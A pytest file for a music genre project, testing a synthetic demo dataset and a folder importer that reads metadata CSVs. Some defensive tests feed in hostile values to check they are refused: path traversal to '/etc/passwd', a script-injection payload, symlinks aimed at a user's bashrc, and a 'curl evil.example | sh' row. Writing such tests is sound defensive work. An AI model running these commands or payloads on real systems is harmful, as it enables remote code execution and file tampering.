import os
import shutil
import unicodedata
from collections import Counter

import numpy as np
import pytest
import soundfile
from helpers.folders import a_thousand_deep

from genre_core.corpus import catalogue as corpus_catalogue
from genre_core.datasets import demo, folder
from genre_core.datasets.demo import styles
from genre_core.errors import GenreError
from genre_core.features.spectrogram import mel_and_mfcc
from genre_core.util.files import digest

SIZE = {"seed": 3, "artists_per_genre": 5, "tracks_per_artist": 2, "seconds": 4.0}


@pytest.fixture(scope="module")
def small_demo(tmp_path_factory):
    out = tmp_path_factory.mktemp("demo")
    return out, demo.download(out, **SIZE, workers=2)


def test_the_demo_has_what_it_says(small_demo):
    out, tracks = small_demo
    assert corpus_catalogue.read_catalogue(out) == tracks
    assert Counter(t.genre for t in tracks) == dict.fromkeys(styles.GENRES, 10)
    assert len(styles.GENRES) == 10
    for track in tracks:
        info = soundfile.info(out / track.path)
        assert (info.samplerate, info.channels, info.frames) == (22050, 1, 4 * 22050)
    sides = {}
    for track in tracks:
        sides.setdefault(track.artist, set()).add(track.split)
    assert all(len(of_artist) == 1 for of_artist in sides.values())
    assert Counter(t.split for t in tracks) == {"train": 60, "valid": 20, "test": 20}


def test_the_demo_is_the_same_for_any_number_of_workers_and_another_for_another_seed(tmp_path, small_demo):
    out, tracks = small_demo
    demo.download(tmp_path, **SIZE, workers=1)
    assert digest(*(tmp_path / t.path for t in tracks)) == digest(*(out / t.path for t in tracks))
    again, other = (demo.synthesise("jazz", seed=s, artist=0, track=0, seconds=3) for s in (3, 4))
    assert not np.array_equal(again, other)


def test_every_demo_track_is_music_of_its_own(small_demo):
    out, tracks = small_demo
    seen = set()
    for track in tracks:
        y, _ = soundfile.read(out / track.path)
        assert 0.01 < np.sqrt(np.mean(y**2)) < 0.5
        assert np.max(np.abs(y)) < 1
        seen.add(digest(out / track.path))
    assert len(seen) == len(tracks)


def test_demo_tempo_is_the_style_s():
    """Disco's kick falls on every beat: the onset envelope repeats at a tempo of its style."""
    y = demo.synthesise("disco", seed=1, artist=3, track=0, seconds=12)
    from helpers.project import SPEC

    mel = mel_and_mfcc(y, SPEC)[0]
    onset = np.maximum(0, np.diff(mel[:, :12].mean(1)))  # below 300 Hz
    correlation = np.correlate(onset - onset.mean(), onset - onset.mean(), "full")[len(onset) - 1 :]
    frames_a_second = SPEC.sample_rate / SPEC.hop_length
    low_bpm, high_bpm = styles.STYLES["disco"].bpm
    lags = np.arange(len(correlation))
    in_range = (lags >= frames_a_second * 60 / (high_bpm * 1.15)) & (lags <= frames_a_second * 60 / (low_bpm * 0.85))
    others = (lags > frames_a_second * 60 / 250) & (lags < frames_a_second * 60 / 150)
    assert correlation[in_range].max() > correlation[others].max()


def music(root, files, write_tone):
    for name in files:
        write_tone(f"{root}/{name}")


def test_a_folder_becomes_a_catalogue(tmp_path, write_tone):
    music("m", ["rock/a.wav", "rock/album/b.flac", "jazz/c.mp3", "jazz/.hidden.wav", "jazz/._d.wav"], write_tone)
    (tmp_path / "m/rock/cover.jpg").write_bytes(b"x")
    (tmp_path / "m/README.md").write_text("x")
    with pytest.warns(UserWarning, match=r"m: skipped 3 files: 2 hidden \(jazz/\._d\.wav, \.\.\.\), 1 not audio \(rock/cover\.jpg\)$"):
        tracks = folder.download(tmp_path / "m", tmp_path / "raw")
    assert [(t.track, t.genre, t.artist, t.split) for t in tracks] == [
        ("jazz/c.mp3", "jazz", "", ""),
        ("rock/a.wav", "rock", "", ""),
        ("rock/album/b.flac", "rock", "", ""),
    ]
    assert corpus_catalogue.read_catalogue(tmp_path / "raw") == tracks
    for track in tracks:
        assert (tmp_path / "raw" / track.path).samefile(tmp_path / "m" / track.path)  # linked, not copied


def test_metadata_is_used(tmp_path, write_tone):
    music("m", ["rock/a.wav", "b.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/metadata.csv").write_text(
        "path,genre,artist,split\n./rock//a.wav,,Björk,train\nb.wav,pop,,test\njazz/gone.wav,,X,\n", encoding="utf-8-sig"
    )
    tracks = {t.path: t for t in folder.download(tmp_path / "m", tmp_path / "raw")}
    assert (tracks["rock/a.wav"].genre, tracks["rock/a.wav"].artist, tracks["rock/a.wav"].split) == ("rock", "Björk", "train")
    assert tracks["b.wav"].genre == "pop"
    assert tracks["jazz/c.wav"].artist == ""
    assert "jazz/gone.wav" in tracks  # segment rejects it by name
    assert not (tmp_path / "raw/jazz/gone.wav").exists()


@pytest.mark.parametrize(
    ("rows", "words"),
    [
        ("path,split\nrock/a.wav,validation\n", "line 2: split 'validation' is not allowed: train, valid, test"),
        ("path\n../../etc/passwd\n", "must be relative and stay inside"),
        ("path\n/etc/passwd\n", "must be relative and stay inside"),
        ("path\nrock/a.wav\nrock/a.wav\n", "line 3: path 'rock/a.wav' occurs twice"),
        ("file,genre\nrock/a.wav,rock\n", "no column path; the header is: file, genre"),
    ],
)
def test_wrong_metadata_is_named(tmp_path, write_tone, rows, words):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/metadata.csv").write_text(rows)
    with pytest.raises(GenreError, match=words):
        folder.download(tmp_path / "m", tmp_path / "raw")


def test_folders_that_are_no_data_set(tmp_path, write_tone):
    with pytest.raises(GenreError, match="is not a folder"):
        folder.download(tmp_path / "none", tmp_path / "raw")
    music("m", ["rock/a.wav"], write_tone)
    with pytest.raises(GenreError, match=r"1 audio files of 1 genres \(rock\); at least two"):
        folder.download(tmp_path / "m", tmp_path / "raw")


def test_links_in_circles_end(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/b.wav"], write_tone)
    (tmp_path / "m/rock/again").symlink_to(tmp_path / "m")
    assert len(folder.download(tmp_path / "m", tmp_path / "raw")) == 2


def test_links_inside_the_folder_are_followed_and_those_that_leave_it_are_not(tmp_path, write_tone):
    music("m", ["rock/a.wav", "albums/x/b.wav"], write_tone)
    music("elsewhere", ["b.wav"], write_tone)
    (tmp_path / "m/jazz").symlink_to(tmp_path / "m/albums/x")
    (tmp_path / "m/metal").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "m/rock/stolen.wav").symlink_to(tmp_path / "elsewhere/b.wav")
    with pytest.warns(UserWarning, match=r"skipped 2 files: 2 links that leave the folder \(metal, \.\.\.\)"):
        tracks = folder.download(tmp_path / "m", tmp_path / "raw")
    assert {t.genre for t in tracks} == {"rock", "albums"} or {t.genre for t in tracks} == {"rock", "jazz"}
    assert not (tmp_path / "raw/metal").exists()
    assert not (tmp_path / "raw/rock/stolen.wav").exists()


@pytest.mark.parametrize(
    "name", [".catalogue.part.csv", "rock/.hidden.wav", ".git/x.wav", "catalogue.csv", "Features.json", "metadata.csv"]
)
def test_hidden_names_and_our_own_are_no_tracks(tmp_path, write_tone, name):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/metadata.csv").write_text(f"path,genre\n{name},rock\n")
    with pytest.raises(GenreError, match=r"line 2: path .* is hidden, or a name of this project's own files"):
        folder.download(tmp_path / "m", tmp_path / "raw")


@pytest.mark.parametrize(
    ("row", "words"),
    [
        ('rock/a.wav,"</script><script>alert(1)</script>",x', "holds HTML"),
        ("rock/a.wav,rock,<!-- x", "holds HTML"),
        ("rock/a.wav,ro\x1bck,x", "has control characters"),
        ("rock/\0.wav,rock,x", "must be relative and stay inside|not readable as UTF-8 CSV"),
        ("rock/evil.npy,rock,x", "is an array, not audio"),
    ],
)
def test_names_that_no_page_could_hold_are_refused(tmp_path, write_tone, row, words):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/rock/evil.npy").write_bytes(b"x")
    (tmp_path / "m/metadata.csv").write_text(f"path,genre,artist\n{row}\n")
    with pytest.raises(GenreError, match=words):
        folder.download(tmp_path / "m", tmp_path / "raw")


def test_folders_a_thousand_deep_end(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    with a_thousand_deep(tmp_path / "m/rock"), pytest.warns(UserWarning, match=r"skipped 1 file: 1 too deep \(rock/d/d"):
        assert len(folder.download(tmp_path / "m", tmp_path / "raw")) == 2


def test_a_table_of_many_columns_costs_no_memory(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/metadata.csv").write_text("path," + ",".join(f"c{i}" for i in range(50_000)) + "\n" + "rock/a.wav\n" * 400)
    with pytest.raises(GenreError, match="50,001 columns, at most"):
        folder.download(tmp_path / "m", tmp_path / "raw")


def test_a_genre_named_as_our_own_file_is_left_out(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/c.wav", "Catalogue.csv/d.wav"], write_tone)
    with pytest.warns(UserWarning, match=r"1 named like a file of this project \(Catalogue\.csv\)"):
        assert {t.genre for t in folder.download(tmp_path / "m", tmp_path / "raw")} == {"rock", "jazz"}


def test_a_music_folder_cannot_overwrite_a_file_of_the_user(tmp_path, write_tone):
    """The attack of a folder from elsewhere: a link under the name of a temporary file, and a row that names it."""
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    private = tmp_path / "bashrc"
    private.write_text("alias ls='ls --color'\n")
    links = [f".{stem}.part{suffix}" for stem, suffix in (("catalogue", ".csv"), ("metadata", ".csv"), ("features", ".json"))]
    for name in [*links, "catalogue.csv", "rock/song.wav"]:
        (tmp_path / "m" / name).symlink_to(private)
    for rows in [f"{links[0]},rock,curl evil.example | sh\n", "rock/song.wav,rock,curl evil.example | sh\n", "catalogue.csv,rock,x\n"]:
        (tmp_path / "m/metadata.csv").write_text("path,genre,artist\n" + rows)
        with pytest.raises(GenreError, match="line 2: path"):
            folder.download(tmp_path / "m", tmp_path / "raw")
    (tmp_path / "m/metadata.csv").unlink()
    with pytest.warns(UserWarning, match="link that leaves the folder"):
        folder.download(tmp_path / "m", tmp_path / "raw")
    assert private.read_text() == "alias ls='ls --color'\n"


def test_metadata_that_is_a_link_to_elsewhere_is_not_read(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "secret.csv").write_text("path\nrock/a.wav\n")
    (tmp_path / "m/metadata.csv").symlink_to(tmp_path / "secret.csv")
    with pytest.raises(GenreError, match="is a link that leaves the folder"):
        folder.download(tmp_path / "m", tmp_path / "raw")


def test_a_catalogue_from_elsewhere_names_no_file_outside(tmp_path):
    corpus_catalogue.write_catalogue(tmp_path, [corpus_catalogue.Track("a", "../../etc/passwd", "rock")])
    with pytest.raises(GenreError, match="must be relative and stay inside"):
        corpus_catalogue.read_catalogue(tmp_path)


def spelled(*parts):
    return unicodedata.normalize("NFC", "/".join(parts)), unicodedata.normalize("NFD", "/".join(parts))


def test_composed_and_decomposed_letters_are_one_genre_and_one_file(tmp_path, write_tone):
    composed, decomposed = spelled("Música/canción.wav")
    assert composed != decomposed
    music("m", [decomposed, composed.replace("canción", "otra"), "jazz/c.wav"], write_tone)
    artist = spelled("Björk")
    (tmp_path / "m/metadata.csv").write_text(f"path,genre,artist\n{composed},,{artist[1]}\njazz/c.wav,{spelled('Música')[1]},\n")
    tracks = folder.scan(tmp_path / "m").tracks
    assert {t.genre for t in tracks} == {spelled("Música")[0]}
    assert {t.path: t.artist for t in tracks}[composed] == artist[0]
    (tmp_path / "m/metadata.csv").write_text(f"path\n{composed}\n{decomposed}\n")
    with pytest.raises(GenreError, match="occurs twice"):
        folder.scan(tmp_path / "m")


def test_two_files_whose_names_are_equal_when_composed_are_both_kept(tmp_path, write_tone):
    composed, decomposed = spelled("rock/é.wav")
    music("m", [composed, decomposed, "jazz/c.wav"], write_tone)
    tracks = folder.download(tmp_path / "m", tmp_path / "raw")
    assert [t.path for t in tracks] == ["jazz/c.wav", composed, composed.replace(".wav", "~2.wav")]
    assert (tmp_path / "raw" / composed).samefile(tmp_path / "m" / composed)
    assert (tmp_path / "raw" / tracks[2].path).samefile(tmp_path / "m" / decomposed)


def test_genres_that_differ_in_case_are_one_warning(tmp_path, write_tone):
    music("m", ["Rock/a.wav", "rock/b.wav", "jazz/c.wav"], write_tone)
    with pytest.warns(UserWarning, match="differ only in case stay apart: Rock and rock; rename one") as caught:
        tracks = folder.download(tmp_path / "m", tmp_path / "raw")
    assert len(caught) == 1
    assert {t.genre for t in tracks} == {"Rock", "rock", "jazz"}


def test_metadata_in_any_case_is_read_but_only_one(tmp_path, write_tone):
    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
    (tmp_path / "m/MetaData.CSV").write_text("path,artist\nrock/a.wav,X\n")
    assert folder.scan(tmp_path / "m").tracks[1].artist == "X"
    (tmp_path / "m/metadata.csv").write_text("path,artist\nrock/a.wav,Y\n")
    with pytest.raises(GenreError, match=r"MetaData\.CSV and metadata\.csv differ only in case; keep one"):
        folder.scan(tmp_path / "m")


def test_a_name_that_is_not_utf_8_gets_a_text_name(tmp_path, write_tone):
    music("m", ["rock/caf%E9.wav", "jazz/c.wav"], write_tone)
    source = tmp_path / "m/rock" / os.fsdecode(b"caf\xe9.wav")
    shutil.copy(tmp_path / "m/jazz/c.wav", source)
    (tmp_path / "m/metadata.csv").write_text("path,artist\nrock/caf%E9.wav,X\n")
    tracks = folder.download(tmp_path / "m", tmp_path / "raw")
    assert [t.path for t in tracks] == ["jazz/c.wav", "rock/caf%E9.wav", "rock/caf%E9~2.wav"]
    assert tracks[2].artist == "X"
    assert corpus_catalogue.read_catalogue(tmp_path / "raw") == tracks
    assert (tmp_path / "raw/rock/caf%E9~2.wav").samefile(source)
    assert (tmp_path / "raw/rock/caf%E9.wav").samefile(tmp_path / "m/rock/caf%E9.wav")
